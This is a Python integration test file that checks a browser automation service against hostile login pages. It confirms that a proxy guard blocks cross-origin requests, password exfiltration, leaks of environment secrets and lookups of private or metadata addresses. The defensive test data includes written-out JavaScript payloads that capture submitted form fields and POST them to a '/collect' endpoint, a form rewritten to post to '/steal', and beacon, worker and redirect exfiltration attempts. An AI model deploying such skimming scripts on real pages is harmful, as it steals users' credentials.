"""Hostile login pages in real Chromium: the password stays on the PIMS, the service stays shut.

The PIMS is a stand-in on 127.0.0.1 (tests/integration/idexx/standin.py); a second stand-in
on another 127.0.0.1 port plays the service's own API and "another site" at once, and
records whatever reaches it.
"""

from __future__ import annotations

import os
import uuid
from collections import Counter
from collections.abc import Iterable, Iterator
from zoneinfo import ZoneInfo

import httpx
import psutil
import pytest
from starlette.requests import Request
from starlette.responses import Response

from pims_sync.adapters.idexx.browser import BROWSER_ENV, DISPLAY_ENV, BrowserPool
from pims_sync.adapters.idexx.guard import NAVIGATION, PRIVATE, SEND, ContextGuard
from pims_sync.adapters.idexx.provider import IdexxProvider
from pims_sync.domain.credentials import PimsCredentials
from pims_sync.errors import PimsLoginPageChangedError
from pims_sync.ports.provider import ClinicLogin
from tests.integration.idexx.harness import chromium_pids, idexx_options
from tests.integration.idexx.standin import PASSWORD, USERNAME, StandIn, html, login_form

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

SHELL = "<div id='dashboard_shell'><h1>Oak Vet</h1></div>"
SERVICE_KEY = "service-encryption-key-0123456789abcdef"


@pytest.fixture(scope="module")
def running() -> Iterator[tuple[StandIn, StandIn]]:
    with StandIn() as pims, StandIn() as elsewhere:
        yield pims, elsewhere


@pytest.fixture
def site(running: tuple[StandIn, StandIn]) -> Iterator[StandIn]:
    pims, elsewhere = running
    pims.reset()
    elsewhere.reset()
    yield pims
    pims.reset()
    elsewhere.reset()


@pytest.fixture
def api(running: tuple[StandIn, StandIn], site: StandIn) -> StandIn:
    """The service's API on another 127.0.0.1 port (and the attacker's site)."""
    return running[1]


def login_to(site: StandIn) -> ClinicLogin:
    credentials = PimsCredentials(username=USERNAME, password=PASSWORD, base_url=site.base_url)
    return ClinicLogin(uuid.uuid4(), credentials, timezone=ZoneInfo("UTC").key)


def hostile(api: str) -> str:
    """Scripts that try the service's API every way a page can, then say they are done."""
    worker = f"fetch('{api}/from-worker').finally(() => postMessage('tried'))"
    return f"""<iframe src="{api}/frame"></iframe><script>
      const api = '{api}';
      const worker = new Worker(URL.createObjectURL(new Blob([`{worker}`])));
      navigator.sendBeacon(api + '/beacon', 'x');
      Promise.allSettled([
        fetch(api + '/api/clinics'),
        fetch(api + '/api/sync', {{method: 'POST', body: '{{}}'}}),
        fetch('/bounce'),
        new Promise(done => {{ const i = new Image(); i.onload = i.onerror = done;
                              i.src = api + '/pixel.png'; }}),
        new Promise(done => {{ worker.onmessage = done; }}),
      ]).then(() => fetch('/done', {{method: 'POST'}}));
    </script>"""


def blocked_since(provider: IdexxProvider, before: Counter[tuple[str, str]]) -> set[str]:
    """The kinds of request to 127.0.0.1 the guard blocked since `before`.

    (Chromium's own form-signature lookup at content-autofill.googleapis.com goes through
    the proxy too; offline, it is refused as unresolved.)
    """
    blocked = provider.pool.blocked - before
    return {kind for (kind, host) in blocked if host == "127.0.0.1"}


async def test_a_hostile_page_reaches_nothing_but_its_pims_and_the_login_succeeds(
    provider: IdexxProvider, site: StandIn, api: StandIn
) -> None:
    site.login_accepts()
    site.routes[("GET", "/login")] = html(login_form() + hostile(api.base_url))
    site.routes[("GET", "/schedule")] = html(SHELL)

    async def bounce(request: Request) -> Response:  # the PIMS origin redirects to the API
        del request
        return Response(status_code=302, headers={"Location": f"{api.base_url}/from-redirect"})

    site.routes[("GET", "/bounce")] = bounce
    before = provider.pool.blocked.copy()
    async with provider.session(login_to(site)):
        pass
    tried = [(seen.method, seen.path) for seen in site.seen if seen.path in ("/bounce", "/done")]
    assert tried == [("GET", "/bounce"), ("POST", "/done")]  # every attempt made and settled
    assert api.seen == []
    assert blocked_since(provider, before) == {NAVIGATION, SEND, PRIVATE}
    assert site.forms[-1]["password"] == PASSWORD  # the login itself went to the PIMS


async def test_a_form_posted_to_another_origin_never_carries_the_password(
    provider: IdexxProvider, site: StandIn, api: StandIn
) -> None:
    stealing = login_form().replace("action='/login'", f"action='{api.base_url}/steal'")
    site.routes[("GET", "/login")] = html(stealing + hostile(api.base_url))
    with pytest.raises(PimsLoginPageChangedError, match=r"which was blocked \(127\.0\.0\.1\)$"):
        async with provider.session(login_to(site)):
            pass
    assert api.seen == []
    assert not [form for form in site.forms if "password" in form]  # (the scripts' POST /done)


async def test_a_script_that_sends_the_typed_password_elsewhere_is_stopped(
    provider: IdexxProvider, site: StandIn, api: StandIn
) -> None:
    site.login_accepts()
    leak = (
        "<script>document.addEventListener('submit', e => fetch("
        f"'{api.base_url}/collect', {{method: 'POST', body: new FormData(e.target), "
        "keepalive: true}), true)</script>"
    )
    site.routes[("GET", "/login")] = html(login_form() + leak)
    site.routes[("GET", "/schedule")] = html(SHELL)
    before = provider.pool.blocked.copy()
    async with provider.session(login_to(site)):
        pass
    assert api.seen == []
    assert blocked_since(provider, before) == {SEND}


async def test_chromium_never_sees_the_service_environment(
    site: StandIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    pool = BrowserPool(idexx_options(site.base_url))
    monkeypatch.setenv("ENCRYPTION_KEY", SERVICE_KEY)
    monkeypatch.setenv("DATABASE_URL", "postgresql://pims:db-password@db.internal/pims")
    site.routes[("GET", "/login")] = html(login_form())
    before = chromium_pids()
    try:
        async with pool.context("environment", site.base_url) as context:
            page = await context.new_page()
            await page.goto(f"{site.base_url}/login")  # a renderer and the network service up
            processes = {pid: _raw_environ(pid) for pid in chromium_pids() - before}
            browser = _browser_process(processes)
            environment = dict(psutil.Process(browser).environ())
    finally:
        await pool.aclose()
    assert len(processes) >= 3  # the browser, a renderer, a utility process at least
    for raw in processes.values():  # children retitle themselves: read their raw bytes
        assert b"ENCRYPTION_KEY" not in raw
        assert b"DATABASE_URL" not in raw
        assert SERVICE_KEY.encode() not in raw
    # Debian's /usr/bin/chromium is a shell script: it adds CHROME_*, GOOGLE_* and PWD.
    inherited = {name for name, value in environment.items() if os.environ.get(name) == value}
    assert inherited <= set(BROWSER_ENV) | {"PWD"}
    assert not set(environment) & set(DISPLAY_ENV)  # headless: no display
    assert environment["HOME"] != os.environ.get("HOME")
    assert os.path.basename(environment["HOME"]).startswith("pims-sync-chromium-")
    assert not os.path.exists(environment["HOME"])  # the private HOME went with the browser


async def test_the_proxy_refuses_names_that_resolve_to_private_addresses(
    site: StandIn, api: StandIn
) -> None:
    lookups: list[str] = []

    async def resolve(host: str) -> list[str]:
        lookups.append(host)
        return {"metadata.test": ["169.254.169.254"], "mixed.test": ["93.184.216.34", "10.0.0.7"]}[
            host
        ]

    guard = ContextGuard(site.base_url, resolve=resolve)
    site.routes[("GET", "/login")] = html(login_form())
    try:
        proxy = await guard.start()
        async with httpx.AsyncClient(proxy=proxy, timeout=10) as http:
            assert (await http.get(f"{site.base_url}/login")).status_code == 200
            for url in (
                f"http://127.0.0.1:{api.port}/api/clinics",
                f"http://localhost:{api.port}/api/clinics",
                "http://metadata.test/latest/meta-data",
                "http://mixed.test/",
                "http://mixed.test/again",
            ):
                assert (await http.get(url)).status_code == 403
            with pytest.raises(httpx.ProxyError):
                await http.get(f"https://127.0.0.1:{api.port}/api/clinics")  # CONNECT
    finally:
        guard.close()
    assert api.seen == []
    assert lookups == ["metadata.test", "mixed.test"]  # once per host for the guard's life
    assert set(guard.blocked) == {
        (PRIVATE, "127.0.0.1"),
        (PRIVATE, "localhost"),
        (PRIVATE, "metadata.test"),
        (PRIVATE, "mixed.test"),
    }


def _raw_environ(pid: int) -> bytes:
    with open(f"/proc/{pid}/environ", "rb") as environ:
        return environ.read()


def _browser_process(pids: Iterable[int]) -> int:
    """The browser process: the one whose parent is not Chromium (the others are its)."""
    pids = set(pids)
    (browser,) = [pid for pid in pids if psutil.Process(pid).ppid() not in pids]
    return browser
